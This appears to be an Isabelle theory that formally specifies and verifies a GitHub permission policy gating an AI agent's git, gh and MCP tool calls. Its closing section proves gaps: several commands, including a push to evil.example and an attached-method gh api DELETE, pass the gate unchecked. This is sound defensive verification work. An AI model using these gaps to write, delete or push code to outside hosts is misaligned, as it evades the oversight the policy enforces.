(* ===== verification/Github.thy ===== *)
theory Github
  imports Safety_Policy Shell_Parse
begin

text \<open>
  The policy on GitHub access (\<open>src/omnigent/policies/builtins/github.py\<close>): the names of repositories and
  branches, the classification of MCP tools and of \<open>git\<close> and \<open>gh\<close> commands, and the allowlists. The
  regular expressions are written out as the scans they describe.
\<close>

subsection \<open>Repositories\<close>

text \<open>\<open>[A-Za-z0-9._-]\<close>\<close>

definition repo_char :: "char \<Rightarrow> bool" where
  "repo_char c \<longleftrightarrow> is_letter c \<or> c \<in> {CHR ''.'', CHR ''_'', CHR ''-''} \<or> (let n = (of_char c :: nat) in 48 \<le> n \<and> n \<le> 57)"

definition at_end :: "string \<Rightarrow> bool" where
  "at_end s \<longleftrightarrow> s = [] \<or> s = [CHR 0x0A]"

text \<open>The lazy last group of the patterns followed by an optional \<open>.git\<close>.\<close>

definition drop_git :: "string \<Rightarrow> string" where
  "drop_git w = (if 4 < length w \<and> drop (length w - 4) w = ''.git'' then take (length w - 4) w else w)"

text \<open>\<open>([A-Za-z0-9._-]+)/([A-Za-z0-9._-]+)\<close> at the start of a text: both groups and what follows.\<close>

definition two_names :: "string \<Rightarrow> (string \<times> string \<times> string) option" where
  "two_names s =
     (let owner = takeWhile repo_char s; rest = dropWhile repo_char s;
          name = takeWhile repo_char (tl rest)
      in if owner \<noteq> [] \<and> rest \<noteq> [] \<and> hd rest = CHR ''/'' \<and> name \<noteq> []
         then Some (owner, name, dropWhile repo_char (tl rest)) else None)"

definition REPO_URL_HOST :: string where
  "REPO_URL_HOST = ''github.com''"

definition repo_url_at :: "string \<Rightarrow> string option" where
  "repo_url_at s =
     (if \<not> startswith s REPO_URL_HOST then None
      else
        (let rest = drop (length REPO_URL_HOST) s;
             separator = takeWhile (\<lambda>c. c \<in> {CHR '':'', CHR ''/''}) rest
         in if separator = [] then None
            else (case two_names (drop (length separator) rest) of
                    Some (owner, name, after) \<Rightarrow>
                      if at_end after \<or> (after \<noteq> [] \<and> hd after \<in> {CHR ''/'', CHR ''?'', CHR ''#''})
                      then Some (lower (owner @ ''/'' @ drop_git name)) else None
                  | None \<Rightarrow> None)))"

text \<open>The search for the URL pattern; the flag says whether a \<^const>\<open>repo_char\<close> stands before the text.\<close>

primrec search_repo_url :: "bool \<Rightarrow> string \<Rightarrow> string option" where
  "search_repo_url prev [] = None"
| "search_repo_url prev (c # cs) =
     (case (if prev then None else repo_url_at (c # cs)) of
        Some repo \<Rightarrow> Some repo
      | None \<Rightarrow> search_repo_url (repo_char c) cs)"

definition repo_bare :: "string \<Rightarrow> string option" where
  "repo_bare s =
     (case two_names s of
        Some (owner, name, after) \<Rightarrow> if at_end after then Some (lower (owner @ ''/'' @ drop_git name)) else None
      | None \<Rightarrow> None)"

definition repo_api_at :: "string \<Rightarrow> string option" where
  "repo_api_at s =
     (if startswith s ''repos/''
      then map_option (\<lambda>(owner, name, _). lower (owner @ ''/'' @ name)) (two_names (drop 6 s))
      else None)"

primrec search_repo_api :: "string \<Rightarrow> string option" where
  "search_repo_api [] = None"
| "search_repo_api (c # cs) =
     (case (if c = CHR ''/'' then repo_api_at cs else None) of
        Some repo \<Rightarrow> Some repo
      | None \<Rightarrow> search_repo_api cs)"

definition repo_from_api_path :: "string \<Rightarrow> string option" where
  "repo_from_api_path s = (case repo_api_at s of Some repo \<Rightarrow> Some repo | None \<Rightarrow> search_repo_api s)"

text \<open>The empty string stands for no repository, as in the code.\<close>

definition repo_from_url :: "string \<Rightarrow> string" where
  "repo_from_url value = (case search_repo_url False value of Some repo \<Rightarrow> repo | None \<Rightarrow> [])"

definition normalize_repo :: "string \<Rightarrow> string" where
  "normalize_repo value =
     (let value = strip value in
      if value = [] then []
      else (case search_repo_url False value of
              Some repo \<Rightarrow> repo
            | None \<Rightarrow> (case repo_bare value of Some repo \<Rightarrow> repo | None \<Rightarrow> [])))"

definition normalize_repos :: "string list option \<Rightarrow> string list" where
  "normalize_repos values = filter (\<lambda>r. r \<noteq> []) (map normalize_repo (list_or values))"

subsection \<open>Branches\<close>

definition after_colon :: "string \<Rightarrow> string" where
  "after_colon s = (if CHR '':'' \<in> set s then tl (dropWhile (\<lambda>c. c \<noteq> CHR '':'') s) else s)"

definition normalize_branch :: "string \<Rightarrow> string" where
  "normalize_branch value =
     (let value = strip value in
      if value = [] then []
      else
        (let value = (if startswith value ''refs/heads/'' then drop 11 value
                      else if startswith value ''heads/'' then drop 6 value else value)
         in strip (after_colon value)))"

definition normalize_branches :: "string list option \<Rightarrow> string list" where
  "normalize_branches values = filter (\<lambda>b. b \<noteq> []) (map normalize_branch (list_or values))"

subsection \<open>Arguments of tool calls\<close>











subsection \<open>MCP tools\<close>

definition DEFAULT_TOOL_PREFIXES :: "string list" where
  "DEFAULT_TOOL_PREFIXES = [''mcp__github__'', ''github__'']"

definition DEFAULT_GIT_SHELL_TOOLS :: "string list" where
  "DEFAULT_GIT_SHELL_TOOLS = [''sys_os_shell'']"










subsection \<open>Shell commands\<close>

definition GIT_READ_SUBCMDS :: "string list" where
  "GIT_READ_SUBCMDS = [''clone'', ''fetch'', ''pull'', ''ls-remote'']"

definition GIT_WRITE_SUBCMDS :: "string list" where
  "GIT_WRITE_SUBCMDS = [''push'']"

definition GH_WRITE_ACTIONS :: "string list dict" where
  "GH_WRITE_ACTIONS =
     [(''pr'', [''create'', ''merge'', ''close'', ''edit'', ''comment'', ''review'', ''ready'', ''reopen'', ''lock'', ''unlock'']),
      (''issue'', [''create'', ''edit'', ''close'', ''comment'', ''reopen'', ''delete'', ''lock'', ''unlock'', ''transfer'', ''pin'', ''unpin'']),
      (''repo'', [''create'', ''delete'', ''fork'', ''edit'', ''rename'', ''archive'', ''sync'', ''set-default'']),
      (''release'', [''create'', ''delete'', ''edit'', ''upload'']),
      (''run'', [''rerun'', ''cancel'', ''delete'']),
      (''workflow'', [''run'', ''enable'', ''disable'']),
      (''secret'', [''set'', ''delete'']),
      (''label'', [''create'', ''delete'', ''edit'']),
      (''gist'', [''create'', ''edit'', ''delete'']),
      (''cache'', [''delete'']),
      (''codespace'', [''create'', ''delete'', ''stop'', ''rebuild'']),
      (''project'', [''create'', ''delete'', ''edit'', ''close'', ''mark-template'', ''field-create'', ''field-delete'', ''item-add'',
         ''item-archive'', ''item-create'', ''item-delete'', ''item-edit'']),
      (''variable'', [''set'', ''delete'']),
      (''ssh-key'', [''add'', ''delete'']),
      (''gpg-key'', [''add'', ''delete''])]"

definition GH_IGNORE_GROUPS :: "string list" where
  "GH_IGNORE_GROUPS =
     [''auth'', ''config'', ''alias'', ''extension'', ''completion'', ''browse'', ''copilot'', ''licenses'', ''search'', ''status'']"

record shell_op =
  so_kind :: string
  so_repo :: "string option"
  so_branches :: "string list"
  so_branch_targeted :: bool
  so_detail :: string

fun repo_from_tokens :: "string list \<Rightarrow> string option" where
  "repo_from_tokens [] = None"
| "repo_from_tokens (token # tokens) =
     (if repo_from_url token \<noteq> [] then Some (repo_from_url token)
      else (case repo_from_api_path token of Some repo \<Rightarrow> Some repo | None \<Rightarrow> repo_from_tokens tokens))"

fun flag_value :: "string list \<Rightarrow> string list \<Rightarrow> string option" where
  "flag_value [] names = None"
| "flag_value (token # tokens) names =
     (if token \<in> set names \<and> tokens \<noteq> [] then Some (hd tokens)
      else (case find (\<lambda>name. startswith token (name @ ''='')) names of
              Some name \<Rightarrow> Some (drop (length name + 1) token)
            | None \<Rightarrow> flag_value tokens names))"

definition push_branches :: "string list \<Rightarrow> string list" where
  "push_branches args =
     filter (\<lambda>b. b \<noteq> [])
       (map (\<lambda>refspec. normalize_branch (after_colon refspec)) (tl (filter (\<lambda>t. \<not> startswith t ''-'') args)))"

definition classify_git_op :: "string list \<Rightarrow> shell_op option" where
  "classify_git_op tokens =
     (case tokens of
        _ # sub # args \<Rightarrow>
          if sub \<in> set GIT_READ_SUBCMDS
          then Some \<lparr>so_kind = ''read'', so_repo = repo_from_tokens args, so_branches = [], so_branch_targeted = False,
                      so_detail = ''git '' @ sub\<rparr>
          else if sub \<in> set GIT_WRITE_SUBCMDS
          then Some \<lparr>so_kind = ''write'', so_repo = repo_from_tokens args, so_branches = push_branches args,
                      so_branch_targeted = True, so_detail = ''git push''\<rparr>
          else None
      | _ \<Rightarrow> None)"

text \<open>\<open>a or b\<close> on strings that may be missing.\<close>

definition str_or_else :: "string option \<Rightarrow> string option \<Rightarrow> string option" where
  "str_or_else a b = (if str_truthy a then a else b)"

definition classify_gh_api :: "string list \<Rightarrow> string option \<Rightarrow> shell_op" where
  "classify_gh_api rest repo =
     (let verb = flag_value rest [''-X'', ''--method''];
          has_fields = list_ex (\<lambda>t. t \<in> {''-f'', ''--field'', ''-F'', ''--raw-field'', ''--input''} \<or>
                          list_ex (startswith t) [''-f='', ''--field='', ''-F='', ''--raw-field='']) rest;
          is_write = (case verb of Some v \<Rightarrow> upper v \<in> {''POST'', ''PUT'', ''PATCH'', ''DELETE''} | None \<Rightarrow> has_fields)
      in \<lparr>so_kind = (if is_write then ''write'' else ''read''), so_repo = str_or_else repo (repo_from_tokens rest),
          so_branches = [], so_branch_targeted = False, so_detail = ''gh api''\<rparr>)"

definition classify_gh :: "string list \<Rightarrow> shell_op option" where
  "classify_gh tokens =
     (case tokens of
        _ # group_name # rest \<Rightarrow>
          if group_name \<in> set GH_IGNORE_GROUPS then None
          else
            (let repo = str_or_else (flag_value rest [''--repo'', ''-R'']) (repo_from_tokens rest);
                 repo = (if str_truthy repo then map_option normalize_repo repo else None);
                 base = flag_value rest [''--base'', ''-B''];
                 branches = normalize_branches (if str_truthy base then Some [the base] else None)
             in if group_name = ''api'' then Some (classify_gh_api rest repo)
                else
                  (let action_word = (if rest \<noteq> [] \<and> \<not> startswith (hd rest) ''-'' then hd rest else []);
                       detail = strip (''gh '' @ group_name @ '' '' @ action_word)
                   in if action_word \<in> set (list_or (dict_get GH_WRITE_ACTIONS group_name))
                      then Some \<lparr>so_kind = ''write'', so_repo = repo, so_branches = branches, so_branch_targeted = False,
                                  so_detail = detail\<rparr>
                      else Some \<lparr>so_kind = ''read'', so_repo = repo, so_branches = [], so_branch_targeted = False,
                                  so_detail = detail\<rparr>))
      | _ \<Rightarrow> None)"

definition unparseable :: "string \<Rightarrow> shell_op" where
  "unparseable segment =
     \<lparr>so_kind = ''unparseable'', so_repo = None, so_branches = [], so_branch_targeted = False, so_detail = take 60 segment\<rparr>"

definition segment_ops :: "(string \<Rightarrow> shell_op list) \<Rightarrow> string \<Rightarrow> shell_op list" where
  "segment_ops inner segment =
     (case shlex_split segment of
        Inl _ \<Rightarrow> if search_word ''git'' segment \<or> search_word ''gh'' segment then [unparseable segment] else []
      | Inr words \<Rightarrow>
          (let tokens = real_invocation_tokens words in
           if tokens = [] then []
           else (case unwrap_shell_command tokens of
                   Some command \<Rightarrow> inner command
                 | None \<Rightarrow>
                     (case (if hd tokens = ''git'' then classify_git_op tokens
                            else if hd tokens = ''gh'' then classify_gh tokens else None) of
                        Some op \<Rightarrow> [op]
                      | None \<Rightarrow> []))))"

text \<open>The number is that of the levels of nesting left: \<open>MAX_SHELL_NESTING + 1 - depth\<close>.\<close>

primrec classify_shell_command :: "nat \<Rightarrow> string \<Rightarrow> shell_op list" where
  "classify_shell_command 0 command = []"
| "classify_shell_command (Suc levels) command =
     concat (map (segment_ops (classify_shell_command levels)) (split_command_segments command))"

subsection \<open>The policy\<close>

record github_cfg =
  gh_read_all :: bool
  gh_read_repos :: "string list"
  gh_write_repos :: "string list"
  gh_write_branches :: "string list"
  gh_prefixes :: "string list"
  gh_shell_tools :: "string list"
  gh_deny_reason :: string

definition deny :: "string \<Rightarrow> gate_response" where
  "deny reason = Some (''DENY'', reason)"

definition ask :: "string \<Rightarrow> gate_response" where
  "ask reason = Some (''ASK'', reason)"

definition sorted_repr :: "string list \<Rightarrow> string" where
  "sorted_repr xs = repr_list (sort (remdups xs))"

definition gate_read_repo :: "github_cfg \<Rightarrow> string list \<Rightarrow> gate_response \<Rightarrow> gate_response" where
  "gate_read_repo cfg repos undeterminable =
     (if gh_read_all cfg then None
      else if repos = [] then undeterminable
      else if set repos \<subseteq> set (gh_read_repos cfg) then None
      else deny (gh_deny_reason cfg @ '' Read is restricted to the configured repos; this call targets '' @ sorted_repr repos @ ''.''))"

definition gate_write ::
    "github_cfg \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> bool \<Rightarrow> gate_response \<Rightarrow> gate_response \<Rightarrow> gate_response" where
  "gate_write cfg repos branches branch_targeted no_repo no_branch =
     (if repos = [] then no_repo
      else if \<not> set repos \<subseteq> set (gh_write_repos cfg)
      then deny (gh_deny_reason cfg @ '' Write is restricted to the configured repos; this call targets '' @ sorted_repr repos @ ''.'')
      else if gh_write_branches cfg \<noteq> [] \<and> branches \<noteq> []
      then (let bad = filter (\<lambda>b. b \<notin> set (gh_write_branches cfg)) branches in
            if bad \<noteq> []
            then deny (gh_deny_reason cfg @ '' Write is restricted to branches '' @ sorted_repr (gh_write_branches cfg) @
                   ''; this call targets '' @ sorted_repr bad @ ''.'')
            else None)
      else if gh_write_branches cfg \<noteq> [] \<and> branch_targeted then no_branch
      else None)"


text \<open>\<open>{op.repo} if op.repo else set()\<close>\<close>

definition op_repos :: "shell_op \<Rightarrow> string list" where
  "op_repos op = (if str_truthy (so_repo op) then [the (so_repo op)] else [])"

definition tick :: "string \<Rightarrow> string" where
  "tick s = [CHR 0x60] @ s @ [CHR 0x60]"

definition gate_shell_op :: "github_cfg \<Rightarrow> shell_op \<Rightarrow> gate_response" where
  "gate_shell_op cfg op =
     (if so_kind op = ''unparseable''
      then ask (''Could not parse a git/gh command ('' @ str_repr (so_detail op) @
             '') to check it against the GitHub policy. Approve to run it?'')
      else if so_kind op = ''read''
      then gate_read_repo cfg (op_repos op)
             (ask (''Reads are restricted to the configured repos, but the target repo of '' @ tick (so_detail op) @
                '' could not be determined. Approve?''))
      else if so_kind op = ''write''
      then gate_write cfg (op_repos op) (so_branches op) (so_branch_targeted op)
             (ask (''The target repo of '' @ tick (so_detail op) @
                '' could not be determined (e.g. a local remote alias). Approve this write?''))
             (ask (tick (so_detail op) @ '' writes to an allowed repo but its target branch could '' @
                ''not be determined, and writes are branch-restricted. Approve?''))
      else None)"

definition evaluate_shell :: "github_cfg \<Rightarrow> string \<Rightarrow> gate_response" where
  "evaluate_shell cfg command =
     worst_of (gate_shell_op cfg) None (classify_shell_command (Suc MAX_SHELL_NESTING) command)"




definition github_config ::
    "bool \<Rightarrow> string list option \<Rightarrow> string list option \<Rightarrow> string list option \<Rightarrow> string list option \<Rightarrow> string list option \<Rightarrow>
     string \<Rightarrow> github_cfg" where
  "github_config read_all read_repos write_repos write_branches mcp_tool_prefixes shell_tools deny_reason =
     \<lparr>gh_read_all = read_all, gh_read_repos = normalize_repos read_repos, gh_write_repos = normalize_repos write_repos,
      gh_write_branches = normalize_branches write_branches,
      gh_prefixes = (case mcp_tool_prefixes of None \<Rightarrow> DEFAULT_TOOL_PREFIXES | Some ps \<Rightarrow> ps),
      gh_shell_tools = (case shell_tools of None \<Rightarrow> DEFAULT_GIT_SHELL_TOOLS | Some ts \<Rightarrow> ts),
      gh_deny_reason = deny_reason\<rparr>"


subsection \<open>What the allowlists permit\<close>








subsection \<open>Lemmas: decisions\<close>

lemma decisive_simps [simp]: "decisive None" "decisive (deny reason)" "decisive (ask reason)"
  by (simp_all add: decisive_def deny_def ask_def)

lemma gate_some [simp]: "deny reason \<noteq> None" "ask reason \<noteq> None" "None \<noteq> deny reason" "None \<noteq> ask reason"
  by (simp_all add: deny_def ask_def)















subsection \<open>Lemmas: the policy in an engine\<close>





subsection \<open>Lemmas: spellings of a repository\<close>

definition repo_word :: "string \<Rightarrow> bool" where
  "repo_word w \<longleftrightarrow> w \<noteq> [] \<and> list_all repo_char w"

lemma repo_char_simps [simp]:
  "\<not> repo_char (CHR ''/'')" "\<not> repo_char (CHR '':'')" "\<not> repo_char (CHR ''@'')" "\<not> repo_char (CHR ''?'')" "\<not> repo_char (CHR ''#'')"
  "repo_char (CHR ''.'')"
  by code_simp+

lemma repo_char_not_space: "repo_char c \<Longrightarrow> \<not> is_space c"
  by (auto simp: repo_char_def is_letter_def is_space_def Let_def)

lemma take_repo_word:
  assumes "list_all repo_char w" and "rest = [] \<or> \<not> repo_char (hd rest)"
  shows "takeWhile repo_char (w @ rest) = w" "dropWhile repo_char (w @ rest) = rest"
  using assms by (cases rest; simp add: list_all_iff takeWhile_append dropWhile_append)+

lemma two_names_words:
  assumes "repo_word owner" "repo_word name" and "rest = [] \<or> \<not> repo_char (hd rest)"
  shows "two_names (owner @ ''/'' @ name @ rest) = Some (owner, name, rest)"
  using assms take_repo_word [of owner "''/'' @ name @ rest"] take_repo_word [of name rest]
  by (simp add: two_names_def repo_word_def Let_def)

lemma repo_url_at_words:
  assumes "repo_word owner" "repo_word name" and "separator \<in> {''/'', '':''}"
    and "rest = [] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}"
  shows "repo_url_at (REPO_URL_HOST @ separator @ owner @ ''/'' @ name @ rest) = Some (lower (owner @ ''/'' @ drop_git name))"
proof -
  have owner: "owner \<noteq> []" "hd owner \<noteq> CHR '':''" "hd owner \<noteq> CHR ''/''"
    using assms(1) by (cases owner; auto simp: repo_word_def)+
  then have "takeWhile (\<lambda>c. c \<in> {CHR '':'', CHR ''/''}) (separator @ owner @ ''/'' @ name @ rest) = separator"
    using assms(3) by (cases owner) auto
  moreover have "rest = [] \<or> \<not> repo_char (hd rest)" using assms(4) by auto
  ultimately show ?thesis
    using assms(3,4) two_names_words [OF assms(1,2)]
    by (auto simp: repo_url_at_def startswith_def Let_def at_end_def)
qed

definition separators :: "string \<Rightarrow> nat" where
  "separators s = length (filter (\<lambda>c. c \<in> {CHR '':'', CHR ''/''}) s)"

lemma separators_append: "separators (s @ t) = separators s + separators t"
  by (simp add: separators_def)

lemma separators_pos: "CHR ''/'' \<in> set s \<Longrightarrow> 1 \<le> separators s"
  by (auto simp: separators_def Suc_le_eq filter_empty_conv)

lemma two_names_slash:
  assumes "two_names s = Some t"
  shows "CHR ''/'' \<in> set s"
proof -
  have "dropWhile repo_char s \<noteq> []" "hd (dropWhile repo_char s) = CHR ''/''"
    using assms by (simp_all add: two_names_def Let_def split: if_splits)
  then have "CHR ''/'' \<in> set (dropWhile repo_char s)" by (metis hd_in_set)
  then show ?thesis by (meson set_dropWhileD)
qed

lemma repo_url_at_separators:
  assumes "repo_url_at s = Some repo"
  shows "2 \<le> separators s"
proof -
  define rest where "rest = drop (length REPO_URL_HOST) s"
  define sep where "sep = takeWhile (\<lambda>c. c \<in> {CHR '':'', CHR ''/''}) rest"
  obtain t where t: "sep \<noteq> []" "two_names (drop (length sep) rest) = Some t"
    using assms unfolding sep_def rest_def by (auto simp: repo_url_at_def Let_def split: if_splits option.splits)
  have "list_all (\<lambda>c. c \<in> {CHR '':'', CHR ''/''}) sep" by (auto simp: sep_def list_all_iff dest: set_takeWhileD)
  then have "1 \<le> separators sep" using t(1) by (cases sep) (auto simp: separators_def)
  moreover have "1 \<le> separators (drop (length sep) rest)" using t(2) by (intro separators_pos two_names_slash)
  moreover have "rest = sep @ drop (length sep) rest" unfolding sep_def by (metis dropWhile_eq_drop takeWhile_dropWhile_id)
  moreover have "s = take (length REPO_URL_HOST) s @ rest" by (simp add: rest_def)
  ultimately show ?thesis by (metis separators_append add_mono one_add_one le_add2 le_trans)
qed

lemma search_repo_url_separators: "search_repo_url prev s = Some repo \<Longrightarrow> 2 \<le> separators s"
proof (induction s arbitrary: prev)
  case (Cons c cs)
  have tail: "separators cs \<le> separators (c # cs)" by (simp add: separators_def)
  show ?case
  proof (cases "if prev then None else repo_url_at (c # cs)")
    case None
    then have "search_repo_url (repo_char c) cs = Some repo" using Cons.prems by simp
    then show ?thesis using Cons.IH tail by (meson le_trans)
  next
    case (Some r)
    then show ?thesis using repo_url_at_separators by (auto split: if_splits)
  qed
qed simp

lemma search_repo_url_prefixes:
  "search_repo_url False (''https://'' @ s) = search_repo_url False s"
  "search_repo_url False (''git@'' @ s) = search_repo_url False s"
  by (simp_all add: repo_url_at_def REPO_URL_HOST_def startswith_def)

lemma search_repo_url_words:
  assumes "repo_word owner" "repo_word name" and "separator \<in> {''/'', '':''}"
    and "rest = [] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}"
  shows "search_repo_url False (REPO_URL_HOST @ separator @ owner @ ''/'' @ name @ rest) = Some (lower (owner @ ''/'' @ drop_git name))"
proof -
  have "search_repo_url False s = Some repo" if "repo_url_at s = Some repo" for s repo
    using that by (cases s) (simp_all add: repo_url_at_def REPO_URL_HOST_def startswith_def)
  then show ?thesis using repo_url_at_words [OF assms] by blast
qed

lemma search_repo_url_bare:
  assumes "repo_word owner" "repo_word name"
  shows "search_repo_url False (owner @ ''/'' @ name) = None"
proof -
  have "separators w = 0" if "repo_word w" for w
    using that by (auto simp: separators_def repo_word_def list_all_iff filter_empty_conv)
  then have "separators (owner @ ''/'' @ name) = 1"
    using assms by (simp add: separators_append) (simp add: separators_def)
  then show ?thesis using search_repo_url_separators [of False "owner @ ''/'' @ name"]
    by (cases "search_repo_url False (owner @ ''/'' @ name)") simp_all
qed

lemma drop_git_append: "name \<noteq> [] \<Longrightarrow> drop_git (name @ ''.git'') = name"
  by (simp add: drop_git_def)

lemma repo_word_git: "repo_word name \<Longrightarrow> repo_word (name @ ''.git'')"
  by (simp add: repo_word_def) code_simp

lemma strip_solid: "list_all (\<lambda>c. \<not> is_space c) s \<Longrightarrow> strip s = s"
  using strip_id [of s] by (cases "s = []") (simp_all add: list_all_iff, simp add: strip_def)

lemma normalize_repo_found:
  assumes "list_all (\<lambda>c. \<not> is_space c) v" and "search_repo_url False v = Some repo"
  shows "normalize_repo v = repo"
  using assms by (cases "v = []") (simp_all add: normalize_repo_def strip_solid)

lemma normalize_repo_bare:
  assumes "repo_word owner" "repo_word name"
  shows "normalize_repo (owner @ ''/'' @ name) = lower (owner @ ''/'' @ drop_git name)"
proof -
  have "list_all (\<lambda>c. \<not> is_space c) (owner @ ''/'' @ name)"
    using assms repo_char_not_space by (auto simp: repo_word_def list_all_iff is_space_def)
  then show ?thesis using two_names_words [OF assms, of "[]"] search_repo_url_bare [OF assms]
    by (simp add: normalize_repo_def strip_solid repo_bare_def at_end_def)
qed

subsection \<open>Properties\<close>



text \<open>
  All spellings of a repository that the allowlists accept stand for the same one, in lower case: the plain
  name, the web address, the address with \<open>.git\<close>, that of a page below it, and the form of \<open>scp\<close>.
\<close>

theorem repository_spellings_agree:
  assumes "repo_word owner" and "repo_word name" and "\<not> endswith name ''.git''" and "list_all (\<lambda>c. \<not> is_space c) page"
  shows "\<forall>spelling \<in> {owner @ ''/'' @ name, owner @ ''/'' @ name @ ''.git'', ''https://github.com/'' @ owner @ ''/'' @ name,
      ''https://github.com/'' @ owner @ ''/'' @ name @ ''.git'', ''https://github.com/'' @ owner @ ''/'' @ name @ ''/'' @ page,
      ''git@github.com:'' @ owner @ ''/'' @ name @ ''.git''}. normalize_repo spelling = lower (owner @ ''/'' @ name)"
proof -
  have plain: "drop_git name = name"
    using assms(3) by (auto simp: drop_git_def endswith_def suffix_def) (metis append_take_drop_id)
  have git: "drop_git (name @ ''.git'') = name" using assms(2) by (simp add: drop_git_append repo_word_def)
  have solid: "list_all (\<lambda>c. \<not> is_space c) w" if "repo_word w" for w
    using that repo_char_not_space by (auto simp: repo_word_def list_all_iff)
  have urls: "list_all (\<lambda>c. \<not> is_space c) ''https://github.com/''" "list_all (\<lambda>c. \<not> is_space c) ''git@github.com:''"
      "list_all (\<lambda>c. \<not> is_space c) ''.git''" "list_all (\<lambda>c. \<not> is_space c) ''/''" by code_simp+
  have web: "normalize_repo (''https://github.com/'' @ owner @ ''/'' @ w @ rest) = lower (owner @ ''/'' @ drop_git w)"
    if "repo_word w" "rest = [] \<or> hd rest \<in> {CHR ''/'', CHR ''?'', CHR ''#''}" "list_all (\<lambda>c. \<not> is_space c) rest" for w rest
    using search_repo_url_words [OF assms(1) that(1) _ that(2), of "''/''"] search_repo_url_prefixes(1) that solid urls assms(1)
    by (intro normalize_repo_found) (simp_all add: REPO_URL_HOST_def del: search_repo_url.simps)
  have scp: "normalize_repo (''git@github.com:'' @ owner @ ''/'' @ w) = lower (owner @ ''/'' @ drop_git w)" if "repo_word w" for w
    using search_repo_url_words [OF assms(1) that, of "'':''" "[]"] search_repo_url_prefixes(2) that solid urls assms(1)
    by (intro normalize_repo_found) (simp_all add: REPO_URL_HOST_def del: search_repo_url.simps)
  show ?thesis
    using web [OF assms(2), of "[]"] web [OF repo_word_git [OF assms(2)], of "[]"] web [OF assms(2), of "''/'' @ page"]
      scp [OF repo_word_git [OF assms(2)]] normalize_repo_bare [OF assms(1,2)] normalize_repo_bare [OF assms(1) repo_word_git [OF assms(2)]]
      urls assms(4) by (simp add: plain git)
qed

lemma repository_spellings_agree_witness:
  "normalize_repo ''https://github.com/Octo/Hello/pull/1'' = lower ''Octo/Hello''"
proof -
  have words: "repo_word ''Octo''" "repo_word ''Hello''" "\<not> endswith ''Hello'' ''.git''" "list_all (\<lambda>c. \<not> is_space c) ''pull/1''"
    by code_simp+
  show ?thesis using repository_spellings_agree [OF words] by simp
qed

definition demo_gh :: github_cfg where
  "demo_gh = github_config True None (Some [''octo/hello'']) None None None ''blocked''"








subsection \<open>What the policy does not see\<close>

text \<open>
  With only \<open>octo/hello\<close> writable, these commands pass without a question: a push behind a global option of
  \<open>git\<close>, since the second word is taken for the subcommand; a merge behind \<open>-R\<close>, since the action is taken from the
  word after the group; a request whose method is attached to its flag; a push to any host whose path contains
  \<open>github.com\<close>; and one whose other arguments name the writable repository.
\<close>

lemma global_options_unseen:
  "evaluate_shell demo_gh ''git -C /repo push https://github.com/evil/hello main'' = None"
  "evaluate_shell demo_gh ''gh pr -R evil/hello merge 5'' = None"
  by code_simp+

lemma attached_method_unseen: "evaluate_shell demo_gh ''gh api -XDELETE repos/evil/hello'' = None"
  by code_simp

lemma foreign_host_accepted: "evaluate_shell demo_gh ''git push https://evil.example/github.com/octo/hello main'' = None"
  by code_simp

lemma option_names_repository:
  "evaluate_shell demo_gh ''git push --push-option=https://github.com/octo/hello https://evil.example/x main'' = None"
  by code_simp

lemma plain_push_denied: "denies (evaluate_shell demo_gh ''git push https://github.com/evil/hello main'')"
  by code_simp

end
